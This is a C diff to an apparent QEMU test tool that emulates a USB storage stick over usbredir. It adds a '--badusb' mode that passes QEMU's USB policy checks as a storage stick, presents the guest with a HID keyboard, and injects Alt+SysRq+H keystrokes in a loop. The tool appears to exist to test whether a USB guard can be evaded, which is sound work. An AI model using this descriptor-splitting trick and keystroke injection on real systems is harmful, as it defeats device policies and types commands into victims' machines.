@@ -18,6 +18,12 @@
  *   --uas                  also describe a UAS alternate setting (1) like
  *                          many real sticks; selecting it stalls, since
  *                          only Bulk-Only is served
+ *   --badusb               the BadUSB attack: show QEMU's own requests
+ *                          (packet ids with the top byte 0xff, the USB
+ *                          policy's) the stick, but the guest's a HID boot
+ *                          keyboard on the same endpoint 0x81, and once the
+ *                          guest took the keyboard, answer its IN requests
+ *                          with Alt+SysRq+H, over and over
  *   --verbose              log every SCSI command on stderr
  *
  * It plays the role of usbredirhost on a terminal with a stick plugged in:
@@ -37,9 +43,10 @@
  * Bulk-Only Transport specification says.
  *
  * On SIGUSR1, and when a connection ends, the counters (commands, bytes
- * read and written, write commands) are printed on stderr.  A peer that
- * breaks the protocol loses its connection; the program then waits for
- * the next one unless --once was given.
+ * read and written, write commands, and for --badusb the guest's
+ * GET_DESCRIPTOR requests and the keyboard reports sent) are printed on
+ * stderr.  A peer that breaks the protocol loses its connection; the
+ * program then waits for the next one unless --once was given.
  */
 
 #include "qemu/osdep.h"
@@ -84,6 +91,7 @@ typedef struct Msd {
     const char *serial;
     bool write_protect;
     bool uas;           /* also offer a UAS alternate setting */
+    bool badusb;        /* show the guest a keyboard */
     bool verbose;
     /* backing image */
     int img_fd;
@@ -114,9 +122,15 @@ typedef struct Msd {
     /* IN requests that arrived before their data */
     PendingIn pending[MAX_PENDING_IN];
     int n_pending;
+    /* --badusb: the guest took the keyboard; its pending IN requests */
+    bool keyboard;
+    PendingIn kbd_pending[MAX_PENDING_IN];
+    int n_kbd_pending;
+    int64_t next_report_ms;
+    unsigned script_pos;
     /* counters */
     uint64_t commands, failed, bytes_read, bytes_written, write_cmds;
-    uint64_t resets, bad_cbws, alt_refused;
+    uint64_t resets, bad_cbws, alt_refused, guest_descs, key_reports;
 } Msd;
 
 static Msd msd;
@@ -140,14 +154,46 @@ static const uint8_t config_desc[] = {
 };
 #define CONFIG_BOT_LEN  32
 
+/* --badusb: what the guest is shown */
+static const uint8_t kbd_dev_desc[18] = {
+    18, 1, 0x00, 0x02, 0, 0, 0, 64, 0x6d, 0x04, 0x1c, 0xc3, 0x00, 0x01,
+    1, 2, 0, 1,
+};
+
+static const uint8_t kbd_report_desc[] = {
+    0x05, 0x01, 0x09, 0x06, 0xa1, 0x01, 0x05, 0x07, 0x19, 0xe0, 0x29, 0xe7,
+    0x15, 0x00, 0x25, 0x01, 0x75, 0x01, 0x95, 0x08, 0x81, 0x02, 0x95, 0x01,
+    0x75, 0x08, 0x81, 0x01, 0x95, 0x05, 0x75, 0x01, 0x05, 0x08, 0x19, 0x01,
+    0x29, 0x05, 0x91, 0x02, 0x95, 0x01, 0x75, 0x03, 0x91, 0x01, 0x95, 0x06,
+    0x75, 0x08, 0x15, 0x00, 0x25, 0x65, 0x05, 0x07, 0x19, 0x00, 0x29, 0x65,
+    0x81, 0x00, 0xc0,
+};
+
+static const uint8_t kbd_config_desc[] = {
+    9, 2, 34, 0, 1, 1, 0, 0x80, 50,
+    9, 4, 0, 0, 1, 3, 1, 1, 0,              /* HID boot keyboard */
+    9, 0x21, 0x11, 0x01, 0, 1, 0x22, sizeof(kbd_report_desc), 0,
+    7, 5, EP_IN, 3, 8, 0, 4,                /* interrupt, on 0x81 */
+};
+
+/* Boot protocol reports: left Alt, SysRq, H (the kernel's SysRq help) */
+static const uint8_t kbd_script[][8] = {
+    { 0x04 }, { 0x04, 0, 0x46 }, { 0x04, 0, 0x46, 0x0b }, { 0x04, 0, 0x46 },
+    { 0 },
+};
+#define KBD_GAP_MS      200     /* between reports */
+#define KBD_PAUSE_MS    2000    /* between two rounds */
+
 static void print_stats(const char *why)
 {
     fprintf(stderr, "vdi-usbredir-msd: %s: %" PRIu64 " commands (%" PRIu64
             " failed), %" PRIu64 " bytes read, %" PRIu64 " write commands, "
             "%" PRIu64 " bytes written, %" PRIu64 " resets, %" PRIu64
-            " invalid CBWs, %" PRIu64 " alternate settings refused\n", why,
+            " invalid CBWs, %" PRIu64 " alternate settings refused, %" PRIu64
+            " guest GET_DESCRIPTORs, %" PRIu64 " keyboard reports\n", why,
             msd.commands, msd.failed, msd.bytes_read, msd.write_cmds,
-            msd.bytes_written, msd.resets, msd.bad_cbws, msd.alt_refused);
+            msd.bytes_written, msd.resets, msd.bad_cbws, msd.alt_refused,
+            msd.guest_descs, msd.key_reports);
 }
 
 static void on_usr1(int sig)
@@ -595,6 +641,59 @@ static void cancel_pending(uint8_t status)
     msd.n_pending = 0;
 }
 
+static int64_t now_ms(void)
+{
+    return g_get_monotonic_time() / 1000;
+}
+
+/*
+ * --badusb, once the guest took the keyboard: answer its pending IN
+ * request with the next report when it is due.  Returns the milliseconds
+ * until the next one (-1: none pending).
+ */
+static int keyboard_tick(void)
+{
+    struct usb_redir_bulk_packet_header h;
+    uint64_t id;
+    int64_t now = now_ms();
+
+    if (!msd.n_kbd_pending) {
+        return -1;
+    }
+    if (now < msd.next_report_ms) {
+        return msd.next_report_ms - now;
+    }
+    id = msd.kbd_pending[0].id;
+    h = msd.kbd_pending[0].hdr;
+    msd.n_kbd_pending--;
+    memmove(msd.kbd_pending, msd.kbd_pending + 1,
+            msd.n_kbd_pending * sizeof(msd.kbd_pending[0]));
+    send_bulk(id, &h, usb_redir_success, kbd_script[msd.script_pos],
+              MIN(8, h.length));
+    msd.key_reports++;
+    msd.script_pos = (msd.script_pos + 1) % ARRAY_SIZE(kbd_script);
+    msd.next_report_ms = now + (msd.script_pos ? KBD_GAP_MS : KBD_PAUSE_MS);
+    return msd.n_kbd_pending ? KBD_GAP_MS : -1;
+}
+
+/* Cancel the keyboard's pending IN request @id, or all of them */
+static void keyboard_cancel(uint64_t id, bool all)
+{
+    int i = 0;
+
+    while (i < msd.n_kbd_pending) {
+        if (!all && msd.kbd_pending[i].id != id) {
+            i++;
+            continue;
+        }
+        send_bulk(msd.kbd_pending[i].id, &msd.kbd_pending[i].hdr,
+                  usb_redir_cancelled, NULL, 0);
+        msd.n_kbd_pending--;
+        memmove(msd.kbd_pending + i, msd.kbd_pending + i + 1,
+                (msd.n_kbd_pending - i) * sizeof(msd.kbd_pending[0]));
+    }
+}
+
 /* usbredir callbacks (we are the USB host side) */
 
 static int cb_read(void *priv, uint8_t *data, int count)
@@ -700,11 +799,41 @@ static size_t string_desc(uint8_t index, uint8_t *d, size_t max)
     return d[0];
 }
 
-static void cb_control(void *priv, uint64_t id,
-                       struct usb_redir_control_packet_header *c,
-                       uint8_t *data, int data_len)
+/*
+ * --badusb: a descriptor for the guest, whose requests never carry the
+ * policy's packet ids (VDI_USB_GUARD_ID_BASE): the keyboard's.  Returns
+ * false if there is no such descriptor.
+ */
+static bool keyboard_desc(const struct usb_redir_control_packet_header *c,
+                          uint8_t *buf, size_t *len)
 {
-    uint8_t buf[256] = { 0 };
+    switch (c->value >> 8) {
+    case 1:
+        memcpy(buf, kbd_dev_desc, sizeof(kbd_dev_desc));
+        *len = sizeof(kbd_dev_desc);
+        return true;
+    case 2:
+        memcpy(buf, kbd_config_desc, sizeof(kbd_config_desc));
+        *len = sizeof(kbd_config_desc);
+        /* the guest read all of it: it is about to take the keyboard */
+        msd.keyboard |= c->length >= sizeof(kbd_config_desc);
+        return true;
+    case 3:
+        *len = string_desc(c->value & 0xff, buf, 256);
+        return *len > 0;
+    case 0x22:
+        memcpy(buf, kbd_report_desc, sizeof(kbd_report_desc));
+        *len = sizeof(kbd_report_desc);
+        return true;
+    default:
+        return false;
+    }
+}
+
+/* The stick's answer to a control request (buf has 256 bytes) */
+static bool stick_control(const struct usb_redir_control_packet_header *c,
+                          uint8_t *buf, size_t *plen)
+{
     size_t len = 0;
     bool ok = true;
     uint16_t req = (c->requesttype << 8) | c->request;
@@ -715,6 +844,11 @@ static void cb_control(void *priv, uint64_t id,
     };
 
     switch (req) {
+    case 0x2109:    /* HID SET_REPORT (the keyboard's LEDs) */
+    case 0x210a:    /* HID SET_IDLE */
+    case 0x210b:    /* HID SET_PROTOCOL */
+        ok = msd.badusb;
+        break;
     case 0x8006:    /* GET_DESCRIPTOR */
         switch (c->value >> 8) {
         case 1:
@@ -731,7 +865,7 @@ static void cb_control(void *priv, uint64_t id,
             buf[2] = len;
             break;
         case 3:
-            len = string_desc(c->value & 0xff, buf, sizeof(buf));
+            len = string_desc(c->value & 0xff, buf, 256);
             ok = len > 0;
             break;
         case 6:     /* DEVICE_QUALIFIER: we are high speed only */
@@ -778,6 +912,26 @@ static void cb_control(void *priv, uint64_t id,
     default:
         ok = false;
     }
+    *plen = len;
+    return ok;
+}
+
+static void cb_control(void *priv, uint64_t id,
+                       struct usb_redir_control_packet_header *c,
+                       uint8_t *data, int data_len)
+{
+    uint8_t buf[256] = { 0 };
+    size_t len = 0;
+    uint16_t req = (c->requesttype << 8) | c->request;
+    bool ok;
+
+    if (msd.badusb && (id >> 56) != 0xff &&
+        (req == 0x8006 || req == 0x8106)) {
+        msd.guest_descs++;
+        ok = keyboard_desc(c, buf, &len);
+    } else {
+        ok = stick_control(c, buf, &len);
+    }
     if (!(c->requesttype & 0x80)) {
         len = 0;
     }
@@ -798,6 +952,14 @@ static void cb_bulk(void *priv, uint64_t id,
 
     if (h->stream_id) {
         send_bulk(id, h, usb_redir_inval, NULL, 0);
+    } else if (h->endpoint == EP_IN && msd.keyboard) {
+        if (msd.n_kbd_pending == MAX_PENDING_IN) {
+            send_bulk(id, h, usb_redir_inval, NULL, 0);
+        } else {
+            msd.kbd_pending[msd.n_kbd_pending].id = id;
+            msd.kbd_pending[msd.n_kbd_pending].hdr = *h;
+            msd.n_kbd_pending++;
+        }
     } else if (h->endpoint == EP_IN) {
         if (len > MAX_XFER) {
             send_bulk(id, h, usb_redir_inval, NULL, 0);
@@ -847,6 +1009,7 @@ static void cb_cancel(void *priv, uint64_t id)
 {
     int i;
 
+    keyboard_cancel(id, false);
     for (i = 0; i < msd.n_pending; i++) {
         if (msd.pending[i].id == id) {
             send_bulk(id, &msd.pending[i].hdr, usb_redir_cancelled, NULL, 0);
@@ -862,6 +1025,7 @@ static void cb_cancel(void *priv, uint64_t id)
 static void cb_reset(void *priv)
 {
     msd.resets++;
+    keyboard_cancel(0, true);
     cancel_pending(usb_redir_cancelled);
     bot_reset();
     msd.config = 1;
@@ -1080,6 +1244,9 @@ static void serve(int fd)
     msd.broken = false;
     msd.connected = false;
     msd.n_pending = 0;
+    msd.keyboard = false;
+    msd.n_kbd_pending = 0;
+    msd.script_pos = 0;
     msd.config = 1;
     bot_reset();
     set_sense(0, 0, 0);
@@ -1090,7 +1257,7 @@ static void serve(int fd)
     }
     while (!msd.broken) {
         struct pollfd pfd = { .fd = fd, .events = POLLIN };
-        int r;
+        int r, wait = keyboard_tick();
 
         if (usbredirparser_has_data_to_write(msd.parser)) {
             pfd.events |= POLLOUT;
@@ -1099,7 +1266,7 @@ static void serve(int fd)
             want_stats = 0;
             print_stats("stats");
         }
-        r = poll(&pfd, 1, 1000);
+        r = poll(&pfd, 1, wait >= 0 ? MIN(wait, 1000) : 1000);
         if (r < 0 && errno != EINTR) {
             break;
         }
@@ -1211,7 +1378,8 @@ static void usage(void)
     fprintf(stderr, "usage: vdi-usbredir-msd [--listen [ADDR:]PORT | "
             "--connect ADDR:PORT] [--once]\n"
             "       [--vendor-id N] [--product-id N] [--serial S] "
-            "[--write-protect] [--uas] [--verbose] IMAGE\n");
+            "[--write-protect] [--uas] [--badusb] [--verbose]\n"
+            "       IMAGE\n");
     exit(2);
 }
 
@@ -1234,6 +1402,8 @@ int main(int argc, char **argv)
             once = true;
         } else if (!strcmp(a, "--uas")) {
             msd.uas = true;
+        } else if (!strcmp(a, "--badusb")) {
+            msd.badusb = true;
         } else if (!strcmp(a, "--write-protect")) {
             msd.write_protect = true;
         } else if (!strcmp(a, "--verbose")) {
